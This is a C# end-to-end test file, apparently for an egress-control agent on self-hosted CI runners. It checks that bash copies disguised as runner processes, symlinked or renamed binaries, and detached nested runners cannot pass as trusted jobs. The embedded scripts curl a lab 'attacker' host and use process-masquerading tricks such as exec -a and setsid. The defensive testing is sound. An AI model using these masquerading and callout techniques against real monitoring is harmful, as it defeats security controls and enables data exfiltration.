using System.Text.Json;
using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;

namespace Sallyport.EndToEnd.Tests;

/// <summary>
/// What passes for a runner (R15, HARDENING rule 7): a name, an executable, arguments or a parent alone make no job; and a whole
/// runner that a step has started, whatever became of its parents, makes none either.
/// </summary>
public sealed class ImpostorTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    private const string Policy = "version: 1\nmode: block\nallow: [v4.test:80]";

    /// <summary>
    /// Bash under other names, which runs the script that is named like a worker's first argument. Each impostor calls out by a name of
    /// its own, and is there until it is told to go.
    /// </summary>
    private const string Make = $$"""
        mkdir -p "$1/bin" "$1/other/bin"
        cd "$1"
        for name in bin/Runner.Listener bin/Runner.Worker other/bin/Runner.Worker; do cp /usr/bin/bash $name; done
        cat > spawnclient <<'EOF'
        curl -sS -o /dev/null --max-time 30 http://{{LabAddresses.Attacker}}/$NAME; touch $NAME.called; while [ ! -e go ]; do sleep 0.05; done
        EOF
        cat > run <<'EOF'
        "${WORKER[@]}" & wait
        EOF
        """;

    /// <summary>One at a time, by its name; the parent is a listener unless it says otherwise.</summary>
    private const string Stand = """
        cd "$1"
        start() { NAME=$1; shift; export NAME; "$@" & }
        start no-listener bin/Runner.Worker spawnclient 1 2
        start few-arguments bin/Runner.Listener -c 'bin/Runner.Worker spawnclient 1 & wait' run
        start no-numbers bin/Runner.Listener -c 'bin/Runner.Worker spawnclient x 2 & wait' run
        start another-folder bin/Runner.Listener -c 'other/bin/Runner.Worker spawnclient 1 2 & wait' run
        start another-program bin/Runner.Listener -c '(exec -a "$PWD/bin/Runner.Worker" /usr/bin/bash spawnclient 1 2) & wait' run
        for name in no-listener few-arguments no-numbers another-folder another-program; do
          while [ ! -e $name.called ]; do sleep 0.05; done
        done
        sleep 1.5
        "$2" job status --json
        start genuine bin/Runner.Listener -c 'bin/Runner.Worker spawnclient 1 2 & wait' run
        cp -a bin before; mkdir lib linked; cp bin/Runner.Worker lib/x; ln -s ../lib/x linked/Runner.Worker
        start linked bin/Runner.Listener -c 'linked/Runner.Worker spawnclient 1 2 & wait' run
        start renamed before/Runner.Listener -c 'mv before/Runner.Listener before/x; bin/Runner.Worker spawnclient 1 2 & wait' run
        for name in genuine linked renamed; do while [ ! -e $name.called ]; do sleep 0.05; done; done
        "$2" job status --json
        touch go
        wait
        """;

    [Fact]
    public async Task A_part_of_what_makes_a_worker_makes_no_job()
    {
        string policy = await fixture.Machine.ConfigureAsync("policy.yml", Policy);
        await using AgentProcess agent = await fixture.Machine.ServeAsync($"policy: {policy}\nunprotected: warn");
        string folder = $"{RunnerMachine.Work}/impostors";
        await fixture.Machine.ShellAsync(Make, folder);
        fixture.Machine.Network.World.Clear();
        string[] said = (await fixture.Machine.ShellAsync(Stand, folder, fixture.Machine.Product))
            .Split('\n', StringSplitOptions.RemoveEmptyEntries);
        string all = string.Join('\n', said);
        string[] status = [.. said.Where(line => line.StartsWith('{'))];
        Assert.True(JobsOf(status[0]) == 0, all);
        // All of it together does, and is judged, whatever its files have become: it shows that each part was looked for.
        Assert.True(JobsOf(status[1]) == 3, all);
        var traffic = fixture.Machine.Network.World.Received();
        Assert.All(
            ["no-listener", "few-arguments", "no-numbers", "another-folder", "another-program"],
            name => Assert.True(traffic.Contains($"/{name} "), $"{name}\n{all}"));
        Assert.All(["genuine", "linked", "renamed"], name => Assert.False(traffic.Contains($"/{name} "), $"{name}\n{all}"));
        await fixture.Machine.NoJobIsWatchedAsync();
        // Those that have the name by the kernel: bash under its own is nobody's business.
        string journal = (await agent.StopAsync()).Output;
        Assert.True(journal.Split('\n').Count(line => line.Contains("called Runner.Worker, and not known", StringComparison.Ordinal)) == 4, journal);
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("(setsid", ")")]
    public async Task A_runner_that_a_step_has_started_makes_none_whatever_its_parents(string leave, string end)
    {
        // The parent of the listener ends at once where it is left; the inner job asks for a policy of its own, as root.
        string script = $$"""
            {{Make.Replace("$1", "$SIGNS/inner", StringComparison.Ordinal)}}
            cat > spawnclient <<'EOF'
            if [ -n "${WATCHED:-}" ]; then
              until echo '{"egress-policy":"audit"}' | $AGENT job start --inputs -; [ $? != 70 ]; do sleep 0.1; done
              until $AGENT job status --json > status; [ $? != 70 ]; do sleep 0.1; done
            fi
            curl -sS --max-time 30 http://{{LabAddresses.Attacker}}/inner
            touch called
            EOF
            {{leave}} bin/Runner.Listener -c 'bin/Runner.Worker spawnclient 1 2 & wait' run > log 2>&1 < /dev/null & {{end}}
            while [ ! -e called ]; do sleep 0.05; done
            sleep 1.5
            """;
        string workflow = $"""
            name: Outer
            on: push
            jobs:
              outer:
                runs-on: self-hosted
                steps:
                  - name: Starts one
                    id: starts
                    shell: bash
                    run: |
                      {script.ReplaceLineEndings("\n          ")}
            """;
        WorkflowRun control = await fixture.Machine.RunAsync(workflow);
        Assert.True(control.Traffic.Contains("/inner "), control.ToString());
        await using AgentProcess agent = await fixture.Machine.ServeWithAsync(Policy);
        fixture.Machine.Network.World.Clear();
        using StartedRun started = fixture.Machine.Start(workflow, "--env", "WATCHED=yes");
        WorkflowRun run = await started.EndAsync();
        Assert.False(run.Traffic.Contains("/inner "), run.ToString());
        Assert.Equal(["refused"], run.Report.Verdicts("starts", LabAddresses.Attacker));
        string status = await File.ReadAllTextAsync(Path.Combine(started.Folder, "inner", "status"), TestContext.Current.CancellationToken);
        Assert.Equal(1, JobsOf(status));
    }

    private static int JobsOf(string status)
    {
        using JsonDocument document = JsonDocument.Parse(status);
        return document.RootElement.GetProperty("jobs").GetArrayLength();
    }
}
